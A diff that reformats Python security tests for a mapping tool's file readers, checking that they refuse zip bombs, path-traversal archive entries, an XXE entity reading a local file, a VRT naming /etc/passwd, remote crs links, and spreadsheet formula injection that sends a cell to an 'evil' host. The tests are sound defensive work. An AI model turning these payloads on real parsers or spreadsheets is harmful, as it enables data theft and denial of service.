@@ -51,11 +51,23 @@ def test_archives(whole, tmp_path):
     refused(archive(path, {"/etc/evil.csv": CSV}), "names a path outside of itself", whole)
     refused(archive(path, {"C:\\evil.csv": CSV}), "names a path outside of itself", whole)
     refused(archive(path, {"readme.txt": b"x"}), "holds no table", whole)
-    refused(archive(path, {"a.csv": CSV, "b.csv": CSV}), "holds 2 tables .*bring one at a time", whole)
-    refused(archive(path, {"bomb.csv": b"a,b\n" + b"0" * 80_000_000}), "unpacks to over 200 times its size", whole)
-    refused(archive(path, {f"{i}.csv": b"" for i in range(201)}), "holds 201 files, 200 is the most", whole)
+    refused(
+        archive(path, {"a.csv": CSV, "b.csv": CSV}), "holds 2 tables .*bring one at a time", whole
+    )
+    refused(
+        archive(path, {"bomb.csv": b"a,b\n" + b"0" * 80_000_000}),
+        "unpacks to over 200 times its size",
+        whole,
+    )
+    refused(
+        archive(path, {f"{i}.csv": b"" for i in range(201)}),
+        "holds 201 files, 200 is the most",
+        whole,
+    )
     refused(archive(path, {"inner.zip": b"x"}), "inner.zip: the archive can't be opened", whole)
-    matryoshka = archive(tmp_path / "b.zip", {"c.zip": archive(path, {"a.csv": CSV}).read_bytes()}).read_bytes()
+    matryoshka = archive(
+        tmp_path / "b.zip", {"c.zip": archive(path, {"a.csv": CSV}).read_bytes()}
+    ).read_bytes()
     refused(archive(path, {"deep.zip": matryoshka}), "deep.zip: the archive holds no table", whole)
     path.write_bytes(b"PK\x03\x04 not really")
     refused(path, "can't be opened", whole)
@@ -78,11 +90,15 @@ def test_workbooks(whole, tmp_path):
     refused(path, "can't be opened|no xlsx workbook", whole)
     secret = tmp_path / "secret.txt"
     secret.write_text("for nobody else")
-    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}"><!ENTITY a "aaaaaaaaaa">]>'.encode()
+    entity = (
+        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}"><!ENTITY a "aaaaaaaaaa">]>'.encode()
+    )
     good = zipfile.ZipFile(samples.ga(tmp_path))
     members = {name: good.read(name) for name in good.namelist()}
     shared = members["xl/sharedStrings.xml"]
-    members["xl/sharedStrings.xml"] = shared.replace(b"?>", b"?>" + entity, 1).replace(b"Test Nickel", b"&e;&a;&a;")
+    members["xl/sharedStrings.xml"] = shared.replace(b"?>", b"?>" + entity, 1).replace(
+        b"Test Nickel", b"&e;&a;&a;"
+    )
     try:
         found = read(archive(path, members), whole).fates.to_csv()
     except UnusableFile:
@@ -93,7 +109,9 @@ def test_workbooks(whole, tmp_path):
 
 def test_formulas_are_text_and_stay_text(whole, tmp_path):
     path = tmp_path / "a.csv"
-    path.write_text('name,lat,lon,commodity\n"=HYPERLINK(""http://x"")",-82.1,10.5,copper\n@SUM(A1),-82.2,10.5,tin\n')
+    path.write_text(
+        'name,lat,lon,commodity\n"=HYPERLINK(""http://x"")",-82.1,10.5,copper\n@SUM(A1),-82.2,10.5,tin\n'
+    )
     names = read(path, whole).tables["sites"]["name"].tolist()
     assert names == ['=HYPERLINK("http://x")', "@SUM(A1)"]
 
@@ -112,7 +130,9 @@ def test_other_faults(whole, tmp_path):
     bad.write_bytes(b"MZ")
     refused(bad, "files .exe can't be read; bring one of .csv", whole)
     gpkg = tmp_path / "a.gpkg"
-    gpkg.write_bytes(b"<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>/etc/passwd</SrcDataSource>")
+    gpkg.write_bytes(
+        b"<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>/etc/passwd</SrcDataSource>"
+    )
     refused(gpkg, "this is no .gpkg file", whole)
     deep = tmp_path / "a.json"
     deep.write_text("[" * 100_000)
@@ -133,16 +153,26 @@ def listener():
 
 
 def geojson(head: str) -> str:
-    point = '{"type": "Feature", "properties": {"name": "A"}, "geometry": {"type": "Point", "coordinates": [28, -12]}}'
+    point = (
+        '{"type": "Feature", "properties": {"name": "A"}, "geometry": {"type": "Point", '
+        '"coordinates": [28, -12]}}'
+    )
     return '{"type": "FeatureCollection", ' + head + '"features": [' + point + "]}"
 
 
 @pytest.mark.parametrize("kind", ["link", "url", "LINK", "OGC"])
 def test_a_file_makes_the_machine_ask_no_other(whole, tmp_path, listener, kind):
     path = tmp_path / "a.geojson"
-    crs = f'"crs": {{"type": "{kind}", "properties": {{"href": "{listener.url}/x", "url": "{listener.url}/y"}}}}, '
+    crs = (
+        f'"crs": {{"type": "{kind}", "properties": {{"href": "{listener.url}/x", "url": '
+        f'"{listener.url}/y"}}}}, '
+    )
     path.write_text(geojson(crs))
-    refused(path, "the address of another file or computer, which is never asked; save it in WGS 84", whole)
+    refused(
+        path,
+        "the address of another file or computer, which is never asked; save it in WGS 84",
+        whole,
+    )
     path.write_text(geojson('"crs": null, ' + crs.replace(": ", ":")))
     refused(path, "names a key twice", whole)
     assert listener.asked == []
@@ -151,29 +181,49 @@ def test_a_file_makes_the_machine_ask_no_other(whole, tmp_path, listener, kind):
 def test_gdal_itself_reaches_nobody(tmp_path, listener):
     """Should a file get past the look at its first level."""
     path = tmp_path / "a.geojson"
-    path.write_text(geojson(f'"crs": {{"type": "link", "properties": {{"href": "{listener.url}/x"}}}}, '))
+    path.write_text(
+        geojson(f'"crs": {{"type": "link", "properties": {{"href": "{listener.url}/x"}}}}, ')
+    )
     code = (
         "import sys; from pathlib import Path; from crmmap.exchange.readers import spatial\n"
         "spatial._check_json = lambda *_: None\n"
         "spatial.read_spatial(Path(sys.argv[1]), 'a.geojson')\n"
     )
-    subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, timeout=120, check=False)
+    subprocess.run(
+        [sys.executable, "-c", code, str(path)], capture_output=True, timeout=120, check=False
+    )
     assert listener.asked == []
 
 
 def test_named_reference_systems_are_read(tmp_path):
     path = tmp_path / "a.geojson"
-    path.write_text(geojson('"crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}, '))
+    path.write_text(
+        geojson(
+            '"crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}, '
+        )
+    )
     assert read_raw(path).geometry.iloc[0].x == 28
 
 
-CONTROLS = ["A\rB", "A\r\nB", "A\nB", "A\u2028B", "A\u2029B", "A\u0085B", "A\x1b[31mB", "A\x00B", "A\tB"]
+CONTROLS = [
+    "A\rB",
+    "A\r\nB",
+    "A\nB",
+    "A\u2028B",
+    "A\u2029B",
+    "A\u0085B",
+    "A\x1b[31mB",
+    "A\x00B",
+    "A\tB",
+]
 
 
 @pytest.mark.parametrize("name", CONTROLS)
 def test_control_characters_become_blanks_and_the_folder_can_be_read_again(whole, tmp_path, name):
     path = tmp_path / "a.json"
-    path.write_text(json.dumps([{"name": name + "\r=1+1", "lat": -82.1, "lon": 10.5, "commodity": "tin"}]))
+    path.write_text(
+        json.dumps([{"name": name + "\r=1+1", "lat": -82.1, "lon": 10.5, "commodity": "tin"}])
+    )
     brought = read(path, whole)
     said = brought.tables["sites"]["name"].iloc[0]
     assert re.fullmatch(r"A [^\x00-\x1f\u2028]*B =1\+1", said)
@@ -193,16 +243,26 @@ def test_half_a_character_does_not_stop_the_saving(whole, tmp_path):
 def test_no_csv_hands_a_formula_to_a_spreadsheet(whole, tmp_path, begin):
     path = tmp_path / "a.json"
     evil = f'{begin}HYPERLINK("http://evil/?"&A1,"x")'
-    path.write_text(json.dumps([{"name": evil, "lat": -82.1, "lon": 10.5, "commodity": "tin", "owner": evil}]))
+    path.write_text(
+        json.dumps([{"name": evil, "lat": -82.1, "lon": 10.5, "commodity": "tin", "owner": evil}])
+    )
     brought = read(path, whole)
     after = joined(whole, brought)
     new = after.sites[after.sites["owner"] != ""].tail(1)
     texts = [as_csv(brought.fates), Sheet("", new.drop(columns="geometry"), "").to_csv()]
     texts.append(write(select(give(after), Filters()).only("sites"), "csv")[0])
     for text in texts:
-        cells = [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"), newline="")) for cell in row]
+        cells = [
+            cell
+            for row in csv.reader(io.StringIO(text.decode("utf-8-sig"), newline=""))
+            for cell in row
+        ]
         assert [cell for cell in cells if "evil" in cell]
-        assert not [cell for cell in cells if cell.lstrip("\t\r\n ")[:1] in set("=+@＝＋") and "evil" in cell]
+        assert not [
+            cell
+            for cell in cells
+            if cell.lstrip("\t\r\n ")[:1] in set("=+@＝＋") and "evil" in cell
+        ]
         assert b"\r" not in text
 
 
@@ -210,9 +270,26 @@ def test_cells_made_to_hold_up_the_reading_are_refused(tmp_path):
     """Each of these took minutes to hours; the process that reads them here has one."""
     rows = [
         {"name": "pair", "position": "1,2" + " " * 30_000 + "x", "commodity": "tin"},
-        {"name": "degrees", "lat": "1" + " " * 30_000 + "x", "lon": "2" + " " * 30_000, "commodity": "tin"},
-        {"name": "brackets", "lat": "-82", "lon": "10", "country": "(" * 31_000, "commodity": "tin"},
-        {"name": "digits", "lat": "-82", "lon": "11", "country": "1" * 31_000 + "x", "commodity": "(" * 31_000},
+        {
+            "name": "degrees",
+            "lat": "1" + " " * 30_000 + "x",
+            "lon": "2" + " " * 30_000,
+            "commodity": "tin",
+        },
+        {
+            "name": "brackets",
+            "lat": "-82",
+            "lon": "10",
+            "country": "(" * 31_000,
+            "commodity": "tin",
+        },
+        {
+            "name": "digits",
+            "lat": "-82",
+            "lon": "11",
+            "country": "1" * 31_000 + "x",
+            "commodity": "(" * 31_000,
+        },
         {"name": "wells", "lat": "-82", "lon": "12", "kind": "well " * 6_000, "commodity": "tin"},
     ]
     path = tmp_path / "slow.json"
@@ -223,7 +300,9 @@ def test_cells_made_to_hold_up_the_reading_are_refused(tmp_path):
         "mapping |= {'latitude': 'lat', 'longitude': 'lon', 'commodities': 'commodity'}\n"
         "print(read(sys.argv[1], crmmap.load(), columns=mapping, table='sites').totals)\n"
     )
-    run = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=60)
+    run = subprocess.run(
+        [sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=60
+    )
     assert "'read': 200" in run.stdout, run.stderr[-2000:]
 
 
@@ -240,12 +319,16 @@ def test_rows_and_vertices_are_bounded(whole, tmp_path, monkeypatch):
     refused(path, "the table has 4 columns, 3 is the most", whole)
     monkeypatch.undo()
     monkeypatch.setattr(spatial, "MOST_VERTICES", 4)
-    refused(samples.kba(tmp_path), "the shapes have 5 vertices, 4 is the most; simplify them", whole)
+    refused(
+        samples.kba(tmp_path), "the shapes have 5 vertices, 4 is the most; simplify them", whole
+    )
 
 
 def test_rows_keep_their_numbers_and_lose_no_cell(whole, tmp_path):
     path = tmp_path / "a.csv"
-    path.write_text("\n\nname,lat,lon,commodity\nA,-82.1,10.5,tin\n\nB,-82.2,10.5,tin,\nC,-82.3,10.5,tin,beyond\n")
+    path.write_text(
+        "\n\nname,lat,lon,commodity\nA,-82.1,10.5,tin\n\nB,-82.2,10.5,tin,\nC,-82.3,10.5,tin,beyond\n"
+    )
     fates = read(path, whole).fates
     assert fates["row"].tolist() == [4, 5, 6, 7]
     assert fates["fate"].tolist() == ["taken", "refused", "taken", "refused"]
@@ -263,16 +346,29 @@ def test_encodings_and_broken_shapes_are_said(whole, tmp_path):
     assert read(path, whole).tables["sites"].iloc[0]["name"] == "Grängesberg"
     shapes = tmp_path / "a.geojson"
     line = {"type": "LineString", "coordinates": [[1, 1], [2, 2]]}
-    features = [{"type": "Feature", "properties": {"name": str(i)}, "geometry": g} for i, g in enumerate((line, None))]
-    features.append({"type": "Feature", "properties": {"name": "2"}, "geometry": json.loads(
-        '{"type": "Polygon", "coordinates": [[[30, 0], [31, 1], [31, 0], [30, 1], [30, 0]]]}')})  # fmt: skip
+    features = [
+        {"type": "Feature", "properties": {"name": str(i)}, "geometry": g}
+        for i, g in enumerate((line, None))
+    ]
+    features.append(
+        {
+            "type": "Feature",
+            "properties": {"name": "2"},
+            "geometry": {
+                "type": "Polygon",
+                "coordinates": [[[30, 0], [31, 1], [31, 0], [30, 1], [30, 0]]],
+            },
+        }
+    )
     shapes.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
     fates = read(shapes, whole, layout="zones").fates
     assert fates["reason"].tolist()[:2] == ["its geometry encloses no area", "it has no geometry"]
     assert "made valid" in fates["changed"].iloc[2]
 
 
-GARBAGE = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+GARBAGE = settings(
+    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
 
 
 @GARBAGE
@@ -296,7 +392,13 @@ def test_garbage_in_cells_gives_each_row_its_fate(whole, tmp_path, rows):
     path = tmp_path / "cells.json"
     keys = ("name", "lat", "lon", "commodity", "country")
     path.write_text(json.dumps([dict(zip(keys, row, strict=True)) for row in rows]))
-    columns = {"name": "name", "latitude": "lat", "longitude": "lon", "commodities": "commodity", "country": "country"}
+    columns = {
+        "name": "name",
+        "latitude": "lat",
+        "longitude": "lon",
+        "commodities": "commodity",
+        "country": "country",
+    }
     brought = read(path, whole, columns=columns, table="sites")
     assert len(brought.fates) == len(rows)
     assert set(brought.fates["fate"]) <= {"taken", "merged", "refused"}
@@ -312,7 +414,11 @@ def originals(tmp_path_factory):
 @GARBAGE
 @given(
     suffix=some.sampled_from([".xlsx", ".gpkg", ".zip", ".csv"]),
-    damage=some.lists(some.tuples(some.floats(0, 1, exclude_max=True), some.integers(0, 255)), min_size=1, max_size=8),
+    damage=some.lists(
+        some.tuples(some.floats(0, 1, exclude_max=True), some.integers(0, 255)),
+        min_size=1,
+        max_size=8,
+    ),
 )
 def test_a_damaged_original_gives_a_clear_error_or_a_table(originals, tmp_path, suffix, damage):
     content = bytearray(originals[suffix])
@@ -327,14 +433,22 @@ def test_a_damaged_original_gives_a_clear_error_or_a_table(originals, tmp_path, 
 
 
 def test_atheris_feeds_the_readers(tmp_path):
-    """A coverage-guided fuzzer for a bounded time; it ends with an error if a reader raises anything else."""
-    pytest.importorskip("atheris", reason="atheris has no wheel for this Python: pip install atheris")
+    """A coverage-guided fuzzer for a bounded time; it ends with an error if a reader raises
+    anything else."""
+    pytest.importorskip(
+        "atheris", reason="atheris has no wheel for this Python: pip install atheris"
+    )
     corpus = tmp_path / "corpus"
     corpus.mkdir()
     for sample in (samples.icmm, samples.mrds, samples.nrcan, samples.facilities_geojson):
         made = sample(tmp_path)
         (corpus / made.name).write_bytes(bytes([SUFFIXES.index(made.suffix)]) + made.read_bytes())
-    command = [sys.executable, "tests/exchange/fuzz_readers.py", "-max_total_time=20", "-max_len=20000"]
+    command = [
+        sys.executable,
+        "tests/exchange/fuzz_readers.py",
+        "-max_total_time=20",
+        "-max_len=20000",
+    ]
     command += [f"-artifact_prefix={tmp_path}/", str(corpus)]
     run = subprocess.run(command, capture_output=True, text=True, timeout=300)
     assert run.returncode == 0, (run.stdout + run.stderr)[-3000:]
